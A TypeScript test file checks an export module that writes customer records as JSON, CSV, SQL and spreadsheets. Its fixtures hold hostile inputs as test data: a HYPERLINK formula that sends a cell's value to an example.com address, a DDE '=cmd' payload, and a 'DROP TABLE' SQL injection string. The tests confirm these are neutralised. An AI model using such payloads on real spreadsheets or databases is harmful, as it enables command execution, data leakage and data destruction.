import { readXlsx } from 'hucre/xlsx'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { loadSpec } from '../spec/spec.ts'
import type { Spec } from '../spec/spec.ts'
import type { CustomerRecord } from '../spec/types.ts'
import { createGenerator } from './create-generator.ts'
import { testDatabase } from './postgres-under-test.ts'
import { formatNames, formatOfFile, formatRecords, recordFormat, writtenRecords } from './record-format.ts'
import type { FormatOptions, TextFormatName } from './record-format.ts'

const spec = loadSpec()
const text = async (name: TextFormatName, records: CustomerRecord[], of: Spec = spec, options: FormatOptions = {}) => {
  let whole = ''
  for await (const chunk of formatRecords(recordFormat(name, of, options), records)) whole += chunk
  return whole
}
const { record } = await createGenerator({ spec, seed: 42 })
const customers = Array.from({ length: 1203 }, (_, n) => record(n))
const awkward: CustomerRecord = {
  ...record(0),
  id: '01938f6e-7a40-7c31-9d0a-5b1f3c9e2a77',
  first_name: `=HYPERLINK("https://example.com/?"&A1,"x")`,
  last_name: `O'Brien; DROP TABLE customers;-- \\' "quoted",\r\nsecond line`,
  email: 'awkward@example.com',
  metadata: JSON.stringify({ note: `it's \\ "so"`, nul: '\0' }),
  reference: '@SUM(1+1)|cmd',
}

describe('JSON and NDJSON', () => {
  it('hold the customers as they are', async () => {
    expect(JSON.parse(await text('json', customers))).toEqual(customers)
    const lines = (await text('ndjson', customers)).split('\n')
    expect(lines.pop()).toBe('')
    expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual(customers)
  })
})

describe('CSV', () => {
  /** Reads what RFC 4180 describes. */
  const rows = (csv: string) =>
    [...csv.slice(1).matchAll(/("(?:[^"]|"")*"|[^,\r]*)(,|\r\n)/g)]
      .reduce<string[][]>(
        (all, [, cell = '', end]) => {
          all.at(-1)?.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell)
          if (end === '\r\n') all.push([])
          return all
        },
        [[]],
      )
      .slice(0, -1)

  it('has a column for every property and a row for every customer', async () => {
    const [head, ...body] = rows(await text('csv', [...customers, awkward]))
    expect(head).toEqual([
      'id',
      'first_name',
      'last_name',
      'email',
      'customer_type',
      'company_id',
      'created_by',
      'is_active',
      'metadata',
      'created_at',
      'updated_at',
      'phone',
      'country_code',
      'reference',
    ])
    expect(body).toHaveLength(customers.length + 1)
    body.forEach((cells, n) => {
      const customer = [...customers, awkward][n] as unknown as Record<string, unknown>
      expect(cells.map((cell) => cell.replace(/^'/, ''))).toEqual(head?.map((name) => String(customer[name] ?? '')))
    })
  })

  it.each(['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1', '\n=1', ' =1', '＝1', '＋1', '－1', '＠A', '=cmd|"/c calc"!A0'])(
    'never lets a spreadsheet run %j',
    async (first_name) => {
      const [, [, cell] = []] = rows(await text('csv', [{ ...awkward, first_name }]))
      expect(cell).toBe(`'${first_name}`)
    },
  )

  it('has neither guard nor mark where it is plain, as programs want it, and parts its cells by what is asked for', async () => {
    const plain = await text('csv', [awkward], spec, { csv: 'plain', fields: ['first_name', 'phone', 'is_active'] })
    expect(plain).toBe(
      `first_name,phone,is_active\r\n"=HYPERLINK(""https://example.com/?""&A1,""x"")",${awkward.phone},true\r\n`,
    )
    const options = { csv: 'plain', delimiter: ';', head: false, fields: ['first_name', 'reference'] } as const
    expect(await text('csv', [{ ...awkward, first_name: 'a;b', reference: 'c,d' }], spec, options)).toBe(
      '"a;b";c,d\r\n',
    )
  })

  it('keeps a harmless name as it is', async () => {
    const [, [, cell] = []] = rows(await text('csv', [{ ...awkward, first_name: "N'Golo-Kanté" }]))
    expect(cell).toBe("N'Golo-Kanté")
  })
})

describe('SQL', () => {
  const database = testDatabase()
  beforeAll(() => database?.start())
  afterAll(() => database?.stop())

  it('quotes every text, so that none can end its literal', async () => {
    const sql = await text('sql', [awkward])
    expect(sql).toContain(`'O''Brien; DROP TABLE customers;-- \\'' "quoted",\r\nsecond line'`)
    expect(sql).not.toContain('\0')
    expect(sql).toMatch(/^SET client_encoding = 'UTF8';\nSET standard_conforming_strings = on;\nBEGIN;\n[^]*COMMIT;\n$/)
  })

  it('inserts a few hundred customers at a time', async () => {
    expect((await text('sql', customers)).match(/INSERT INTO/g)).toHaveLength(3)
  })

  it('gives a column of its own type to a property that the schema gained', async () => {
    const customer = {
      ...spec.schemas.customer,
      properties: {
        ...spec.schemas.customer.properties,
        score: { type: 'integer' },
        'odd "name"': { type: ['string', 'null'] },
      },
    }
    const wider: Spec = { ...spec, schemas: { ...spec.schemas, customer } }
    expect(await text('sql', [], wider)).toContain('  "score" bigint,\n  "odd ""name""" text,\n')
    expect((await text('csv', [], wider)).trim()).toContain(',score,"odd ""name"""')
  })

  it.runIf(database)('is taken by PostgreSQL, value for value', async () => {
    database?.run(await text('sql', [...customers, awkward]))
    const back = JSON.parse(database?.run('SELECT json_agg(c ORDER BY id) FROM customers c') ?? '') as Record<
      string,
      unknown
    >[]
    const expected = [...customers, awkward].toSorted((a, b) => (a.id < b.id ? -1 : 1))
    const microseconds = (time: unknown) =>
      `${Date.parse(String(time))}${/\.[0-9]{3}([0-9]*)/.exec(String(time))?.[1]?.padEnd(3, '0') ?? '000'}`
    expect(back).toHaveLength(expected.length)
    back.forEach((row, n) => {
      const { metadata, created_at, updated_at, ...plain } = expected[n] as CustomerRecord
      expect(row).toMatchObject({
        phone: null,
        country_code: null,
        reference: null,
        first_name: null,
        last_name: null,
        ...plain,
      })
      expect(row['metadata']).toEqual(JSON.parse(metadata))
      expect([row['created_at'], row['updated_at']].map(microseconds)).toEqual(
        [created_at, updated_at].map(microseconds),
      )
    })
    expect(() =>
      database?.run(
        `INSERT INTO customers SELECT gen_random_uuid(), first_name, last_name, upper(email), customer_type, company_id, created_by, is_active, metadata, created_at, updated_at FROM customers LIMIT 1`,
      ),
    ).toThrow(/customers_email/)
  })

  it.runIf(database)('replaces, where it is told to, those that are there, and leaves all others', async () => {
    const [first, second] = customers as [CustomerRecord, CustomerRecord]
    const upsert = { table: 'upserted', upsert: true }
    database?.run(await text('sql', [first], spec, upsert))
    database?.run(await text('sql', [{ ...first, first_name: 'Ada' }, second], spec, upsert))
    const names = database?.run('SELECT first_name FROM upserted ORDER BY email')
    expect(names?.trim().split('\n').toSorted()).toEqual(['Ada', String(second.first_name)].toSorted())
    const fields = Object.keys(second).filter((name) => name !== 'phone')
    database?.run(
      await text('sql', [{ ...second, first_name: 'Kofi', phone: 'left out' }], spec, { ...upsert, fields }),
    )
    expect(database?.run(`SELECT phone FROM upserted WHERE first_name = 'Kofi'`).trim()).toBe(second.phone)
  })

  it.runIf(database)('leaves the database as it was when the table is there already', async () => {
    const sql = await text('sql', customers.slice(0, 3))
    expect(() => database?.run(sql)).toThrow(/already exists/)
    expect(database?.run('SELECT count(*) FROM customers').trim()).toBe(String(customers.length + 1))
  })
})

describe('SQL for a table that is named', () => {
  it('quotes its name, and that of its schema', async () => {
    const sql = await text('sql', customers.slice(0, 2), spec, { table: 'crm.Our "People' })
    expect(sql).toContain('CREATE TABLE "crm"."Our ""People" (\n')
    expect(sql).toContain('INSERT INTO "crm"."Our ""People" ("id", ')
    expect(sql).toContain('CREATE UNIQUE INDEX "Our ""People_email" ON "crm"."Our ""People" (lower(email));')
  })
})

describe('a spreadsheet', () => {
  it('has types, runs nothing, and keeps the names of its columns in sight', async () => {
    const chunks: Uint8Array[] = []
    const made = { ...awkward, metadata: 'x'.repeat(40_000), last_name: 'bell\u0007' }
    for await (const chunk of writtenRecords('xlsx', spec, {}, [made, customers[2]!])) chunks.push(chunk as Uint8Array)
    const { sheets } = await readXlsx(Buffer.concat(chunks))
    const [sheet] = sheets
    expect(sheet?.freezePane).toMatchObject({ rows: 1 })
    const [head = [], row = [], other = []] = sheet!.rows
    const cell = (name: string) => row[head.indexOf(name)]
    expect(head).toHaveLength(14)
    expect([cell('first_name'), cell('last_name'), cell('phone'), cell('is_active')]).toEqual([
      made.first_name,
      'bell\uFFFD',
      made.phone,
      made.is_active,
    ])
    expect(cell('created_at')).toEqual(new Date(made.created_at))
    expect(cell('metadata')).toHaveLength(32_767)
    expect(other[head.indexOf('email')]).toBe(customers[2]!.email)
  })
})

describe('the format of a file', () => {
  it.each([
    ['a.csv', 'csv'],
    ['a.b.SQL', 'sql'],
    ['x.jsonl', 'ndjson'],
    ['customers.txt', undefined],
    ['csv', 'csv'],
  ])('%s is %s', (path, name) => {
    expect(formatOfFile(path)).toBe(name)
  })
  it('has a name for each that there is', () => expect(formatNames).toEqual(['json', 'ndjson', 'csv', 'sql', 'xlsx']))
})
